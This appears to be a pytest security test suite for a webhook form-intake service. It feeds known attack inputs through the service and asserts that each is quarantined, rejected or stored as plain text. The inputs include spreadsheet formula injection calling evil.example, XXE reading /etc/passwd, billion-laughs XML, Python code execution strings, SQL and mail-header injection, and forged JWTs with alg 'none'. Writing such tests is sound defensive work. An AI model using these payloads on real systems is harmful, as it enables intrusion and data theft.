"""The attacks that are known of such services, against deliveries: what becomes of each, and what is stored."""

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Mapping
from dataclasses import replace
from email import message_from_bytes
from email.policy import default
from pathlib import Path

import openpyxl
import pytest
from intake_forms import NOW, SECRET, deliver

from app.composing import said_on
from app.config import read_settings
from app.context import Context, build_context
from app.intake import Outcome
from app.mailing import occasion_of
from app.occasions import Occasion
from app.present import presented
from app.projection import rows_of, spec_of
from app.store import deliveries, outbox, secrets, submissions
from app.store.engine import Ledger
from app.store.submissions import Submission
from connectors.ports import HookRequest
from connectors.sources import SOURCES
from forms.definition import Source
from forms.schema import compile_form
from jobs.mail import compose

DEFINITION = """\
form: target
version: 1
languages: [en]
title: Target
reference: "T-{number}"
sections:
  - section: all
    title: All
    questions:
      - {question: name, type: long_text, label: Name, required: yes, max_length: 5000}
      - {question: email, type: email, label: E-mail}
      - {question: site, type: url, label: Web site}
      - {question: people, type: integer, label: People}
      - {question: share, type: decimal, label: Share}
      - {question: size, type: choose_one, label: Size, choices: [{value: s, label: Small}, {value: l, label: Large}]}
      - {question: why, type: text, label: Why, show_if: {question: size, is: l}}
      - {question: paper, type: file, label: Paper}
      - question: budget
        type: table
        label: Budget
        questions:
          - {question: quantity, type: decimal, label: Quantity}
          - {question: unit_cost, type: decimal, label: Unit cost}
          - {question: cost, type: decimal, label: Cost, product: [quantity, unit_cost]}
sheet:
  workbook: Target
  tab: Target
  columns:
    - {path: $reference, header: Reference}
    - {path: name, header: "=1+1"}
    - {path: people, header: People, format: integer}
    - {path: share, header: Share, format: decimal}
    - {path: site, header: Site}
mails:
  - {mail: thanks, to: email, subject: "Thanks ((reference))", body: "Thank you, ((reference))."}
sources:
  - {source: standard-webhooks}
"""
SENDERS = ("standard-webhooks", "netlify", "odk-central")


@pytest.fixture
def context(ledger: Ledger, tmp_path: Path) -> Context:
    """The form over a fresh ledger, with a secret for every source."""
    folder = tmp_path / "forms" / "target"
    folder.mkdir(parents=True)
    (folder / "form.yaml").write_text(DEFINITION, encoding="utf-8")
    settings = read_settings({"CHANCERY_DATA": str(tmp_path / "var"), "CHANCERY_FORMS": str(folder.parent)})
    with ledger.writing() as c:
        for source in SENDERS:
            secrets.add(c, "target", source, SECRET, now=NOW)
    built = build_context(settings)
    form = built.forms["target"].form
    sources = tuple(Source(word, {} if word == "standard-webhooks" else {"name": "name"}) for word in SENDERS)
    target = compile_form(replace(form, sources=sources))
    return replace(built, ledger=ledger, now=lambda: NOW, forms={"target": target})


def send(context: Context, body: object, word: str = "standard-webhooks", **headers: str) -> Outcome:
    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
    shown = SOURCES[word].proof.show(raw, SECRET, NOW)
    return deliver(context, word, HookRequest(raw, {**headers, **shown.headers}, shown.in_address), "target")


def answer(context: Context, **answers: object) -> Outcome:
    return send(context, {"data": {"answers": {"name": "Ada", **answers}}})


def kept(context: Context) -> list[Submission]:
    with context.ledger.reading() as c:
        return submissions.of_form(c, "target")


def stored(context: Context) -> list[deliveries.Delivery]:
    with context.ledger.reading() as c:
        return deliveries.listing(c, body_bytes=10_000_000)


def cells(context: Context) -> dict[str, tuple[object, str]]:
    """The one row of the sheet as it is written and read back: header -> value and type."""
    compiled = context.forms["target"]
    rows = rows_of(compiled.form, presented(compiled, kept(context), context.earlier))
    context.sheets.upsert(spec_of(compiled.form), rows)
    sheet = openpyxl.load_workbook(context.settings.workbooks / "Target.xlsx")["Target"]
    assert {cell.data_type for cell in sheet[1]} == {"s"}
    return {str(head.value): (cell.value, cell.data_type) for head, cell in zip(sheet[1], sheet[2], strict=True)}


# Formulas


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|'/C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "+1+1",
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        '=IMPORTXML("http://evil.example","//a")',
        '=DDE("cmd";"/C calc";"x")',
        "＝1+1",
        "%0A=1+1",
        "'=1+1",
        "a\n=1+1",
        "#REF!",
        "00123",
        "1e5",
        "__import__('os').system('id')",
        "{{7*7}} ${7*7} {{ config }} ((reference)) %(label)s %s",
        "().__class__.__mro__[1].__subclasses__()",
        "<img src=x onerror=alert(1)>",
        "'; drop table submissions; --",
        "\u202egpj.exe",
        "a" * 5000,
    ],
)
def test_a_text_stands_in_the_sheet_as_it_was_sent(context: Context, text: str) -> None:
    assert answer(context, name=text).state == "accepted"
    assert kept(context)[0].answers["name"] == text
    assert cells(context)["=1+1"] == (text, "s")  # the header is a text too


def test_numbers_stay_numbers(context: Context) -> None:
    answer(context, people="-3", share="-2.5")
    found = cells(context)
    assert (found["People"], found["Share"]) == ((-3, "n"), (-2.5, "n"))


# What reads differently to different readers

WRONG = {
    "nothing": b"",
    "duplicate keys": b'{"data":{"answers":{"name":"A","name":"B"}}}',
    "duplicate keys, one escaped": b'{"data":{"answers":{"name":"A","n\\u0061me":"B"}}}',
    "NaN": b'{"data":{"answers":{"name":"A","share":NaN}}}',
    "-Infinity": b'{"data":{"answers":{"name":"A","share":-Infinity}}}',
    "1e400": b'{"data":{"answers":{"name":"A","share":1e400}}}',
    "1e999999999": b'{"data":{"answers":{"name":"A","people":1e999999999}}}',
    "5000 digits": b'{"data":{"answers":{"name":"A","people":' + b"9" * 5000 + b"}}}",
    "4300 digits and a point": b'{"data":{"answers":{"name":"A","share":' + b"9" * 4300 + b".5}}}",
    "deep lists": b"[" * 100_000,
    "deep objects": b'{"data":' * 50_000,
    "deep and closed": b'{"data":{"answers":{"name":' + b"[" * 3000 + b"]" * 3000 + b"}}}",
    "a lone surrogate": b'{"data":{"answers":{"name":"\\ud800"}}}',
    "a lone surrogate as a key": b'{"data":{"answers":{"name":"A","\\udfff":"B"}}}',
    "an escaped NUL": b'{"data":{"answers":{"name":"a\\u0000b"}}}',
    "a NUL": b'{"data":{"answers":{"name":"a\0b"}}}',
    "UTF-16": '{"data":{"answers":{"name":"A"}}}'.encode("utf-16"),
    "UTF-16 without a mark": '{"data":{"answers":{"name":"A"}}}'.encode("utf-16-le"),
    "Latin-1": '{"data":{"answers":{"name":"é"}}}'.encode("latin-1"),
    "overlong UTF-8": b'{"data":{"answers":{"name":"\xc0\xaf"}}}',
    "a surrogate in UTF-8": b'{"data":{"answers":{"name":"\xed\xa0\x80"}}}',
    "a comment": b'{"data":{"answers":{"name":"A"}}} // x',
    "two values": b'{"data":{"answers":{"name":"A"}}}{"data":{}}',
    "a trailing comma": b'{"data":{"answers":{"name":"A",}}}',
    "single quotes": b"{'data':{'answers':{'name':'A'}}}",
    "a form": b"name=A",
    "XML": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
}


@pytest.mark.parametrize("what", WRONG)
def test_what_can_be_read_in_two_ways_is_set_aside_byte_for_byte(context: Context, what: str) -> None:
    begun = time.monotonic()
    outcome = send(context, WRONG[what])
    assert time.monotonic() - begun < 5
    assert (outcome.state, outcome.stored) == ("quarantined", True)
    [one] = stored(context)
    assert (one.body, one.reasons) == (WRONG[what], outcome.reasons)
    assert all(reason and reason.isprintable() for reason in one.reasons)
    assert kept(context) == []


UNKNOWN = {
    "is_admin": True,
    "form_id": "other",
    "reference": "T-1",
    "$reference": "T-1",
    "$submission": "of somebody else",
    "__proto__": {"is_admin": True},
    "constructor": {"prototype": {"x": 1}},
    "__class__": "x",
    "nf_set_entry_update_id": 1,
    "name.first": "x",
    "a" * 100_000: "x",
    "": "x",
    "\u202e": "x",
}


@pytest.mark.parametrize("key", UNKNOWN, ids=lambda key: key[:20] or "empty")
def test_a_key_that_no_question_has_sets_nothing(context: Context, key: str) -> None:
    outcome = answer(context, **{key: UNKNOWN[key]})
    assert outcome.state == "quarantined"
    assert kept(context) == []
    assert all(len(reason) <= 500 for reason in stored(context)[0].reasons)


# What the rules do not ask, or work out themselves


def test_an_answer_that_logic_hid_is_left_out_and_told(context: Context) -> None:
    outcome = answer(context, size="s", why="because")
    assert outcome.state == "accepted"
    assert kept(context)[0].answers["why"] is None
    assert any(reason.startswith("why was answered") for reason in stored(context)[0].reasons)


def test_what_is_worked_out_cannot_be_said(context: Context) -> None:
    answer(context, budget=[{"quantity": "2", "unit_cost": "3", "cost": "1000000"}])
    assert kept(context)[0].answers["budget"]["rows"] == [{"quantity": "2", "unit_cost": "3", "cost": "6"}]


BAD_ANSWERS = {
    "an option that is not listed": {"size": "xl"},
    "several of one": {"size": ["s", "l"]},
    "the label of an option as a list": {"size": {"value": "s"}},
    "left out": {"name": ""},
    "blanks": {"name": " \t\u00a0"},
    "too long": {"name": "a" * 5001},
    "an object": {"name": {"$gt": ""}},
    "a header in an address": {"email": "a@example.org\r\nBcc: b@example.org"},
    "two addresses": {"email": "a@example.org,b@example.org"},
    "an address with a name": {"email": "A <a@example.org>"},
    "a script as an address": {"site": "javascript:alert(1)"},
    "a file as an address": {"site": "file:///etc/passwd"},
    "a number that is a date": {"people": "2026-01-01"},
    "a number in words of a machine": {"people": "0x10"},
    "a number with an exponent": {"people": "1e9"},
    "a truth as a number": {"people": True},
    "Arabic digits and letters": {"people": "١٢a"},
    "a kept file": {"paper": [{"name": "x", "sha256": "0" * 64, "bytes": 1}]},
    "a file of this machine": {"paper": {"filepath": "/etc/passwd", "originalFilename": "x"}},
    "a file by a path": {"paper": [{"name": "x", "url": "file:///etc/passwd"}]},
}


@pytest.mark.parametrize("what", BAD_ANSWERS)
def test_answers_are_checked_here_whoever_checked_them_before(context: Context, what: str) -> None:
    outcome = answer(context, **BAD_ANSWERS[what])
    assert outcome.state == "quarantined"
    assert outcome.problems
    assert kept(context) == []


# Proofs


def _encoded(part: object) -> str:
    plain = part if isinstance(part, bytes) else json.dumps(part).encode()
    return base64.urlsafe_b64encode(plain).rstrip(b"=").decode()


def netlify_token(body: bytes, header: Mapping[str, str], key: bytes | None) -> str:
    claims = {"iss": "netlify", "sha256": hashlib.sha256(body).hexdigest()}
    signed = f"{_encoded(dict(header))}.{_encoded(claims)}"
    return f"{signed}.{'' if key is None else _encoded(hmac.digest(key, signed.encode(), 'sha256'))}"


@pytest.mark.parametrize(
    ("header", "key"),
    [
        ({"alg": "none"}, None),
        ({"alg": "NONE"}, None),
        ({"alg": ""}, None),
        ({}, SECRET.encode()),
        ({"alg": "none"}, SECRET.encode()),
        ({"alg": "RS256"}, SECRET.encode()),
        ({"alg": "HS512"}, SECRET.encode()),
        ({"alg": "HS256"}, b""),
        ({"alg": "HS256"}, b"None"),
        ({"alg": "HS256", "jwk": "{}"}, b"mine"),
    ],
)
def test_a_token_does_not_choose_how_it_is_checked(context: Context, header: dict[str, str], key: bytes | None) -> None:
    body = b'{"id":"1","data":{"name":"A"}}'
    request = HookRequest(body, {"x-webhook-signature": netlify_token(body, header, key)})
    assert deliver(context, "netlify", request, "target") == Outcome("unauthentic")
    assert stored(context) == []


def test_the_token_that_is_right_is_taken(context: Context) -> None:
    body = b'{"id":"1","data":{"name":"A"}}'
    token = netlify_token(body, {"alg": "HS256"}, SECRET.encode())
    request = HookRequest(body, {"x-webhook-signature": token})
    assert deliver(context, "netlify", request, "target").state == "accepted"


def test_a_proof_of_one_source_is_none_of_another(context: Context) -> None:
    body = b'{"data":{"answers":{"name":"A"}}}'
    shown = SOURCES["standard-webhooks"].proof.show(body, SECRET, NOW).headers
    assert deliver(context, "netlify", HookRequest(body, shown), "target") == Outcome("unauthentic")
    assert stored(context) == []


def test_a_signature_over_json_that_was_written_anew_is_none(context: Context) -> None:
    body = b'{"data": {"answers": {"name": "A"}}}'
    shown = SOURCES["standard-webhooks"].proof.show(body, SECRET, NOW).headers
    written_anew = json.dumps(json.loads(body), separators=(",", ":")).encode()
    assert deliver(context, "standard-webhooks", HookRequest(written_anew, shown), "target").state == "unauthentic"
    assert stored(context) == []


# XML

XML = {
    "an external entity": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><data id="f"><name>&a;</name></data>',
    "an external definition": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><data id="f"><name>A</name></data>',
    "a billion laughs": (
        "<!DOCTYPE x ["
        '<!ENTITY a0 "ha">'
        + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
        + ']><data id="f"><name>&a9;</name></data>'
    ),
    "deep": "<a>" * 20_000 + "</a>" * 20_000,
    "cut": '<data id="f"><name>A',
}


@pytest.mark.parametrize("what", XML)
def test_xml_reaches_for_nothing(context: Context, what: str) -> None:
    begun = time.monotonic()
    body = {"type": "submission.create", "id": "u", "data": {"xml": XML[what]}}
    outcome = send(context, body, "odk-central")
    assert time.monotonic() - begun < 5
    assert (outcome.state, len(stored(context))) == ("quarantined", 1)
    assert "root:" not in " ".join(outcome.reasons)


# Letters


def test_what_an_applicant_wrote_is_no_part_of_a_letters_words(context: Context) -> None:
    answer(context, name="((reference))\nBcc: b@example.org", email="a@example.org")
    with context.ledger.reading() as connection:
        [item] = outbox.listing(connection, kind="mail")
    occasion = occasion_of(context, item)
    assert isinstance(occasion, Occasion)
    message = compose(context, occasion, said_on(occasion, "Us", ""), "1")
    read_back = message_from_bytes(message.as_bytes(), policy=default)
    assert (read_back["To"], read_back["Bcc"], read_back["Subject"]) == ("a@example.org", None, "Thanks T-1")
    assert read_back.get_content().strip() == "Thank you, T-1."


# Identity


@pytest.mark.parametrize("identity", ["../../x", "a\r\nb", "%00", "' or 1=1 --", "x" * 1000, "\ud83d\ude00", {}, [], 0])
def test_an_identity_is_a_name_and_nothing_else(context: Context, identity: object) -> None:
    first = send(context, {"data": {"id": identity, "answers": {"name": "A"}}})
    again = send(context, {"data": {"id": identity, "answers": {"name": "A"}}})
    assert first.stored
    assert again.state in {"repeated", first.state}
    assert len(kept(context)) <= 1


@pytest.mark.parametrize("seconds", [-400, 400, -86_400])
def test_a_delivery_that_was_recorded_is_no_proof_later(context: Context, seconds: int) -> None:
    body = b'{"data":{"answers":{"name":"A"}}}'
    then = NOW.fromtimestamp(NOW.timestamp() + seconds, NOW.tzinfo)
    shown = SOURCES["standard-webhooks"].proof.show(body, SECRET, then).headers
    assert deliver(context, "standard-webhooks", HookRequest(body, shown), "target").state == "unauthentic"
    assert stored(context) == []
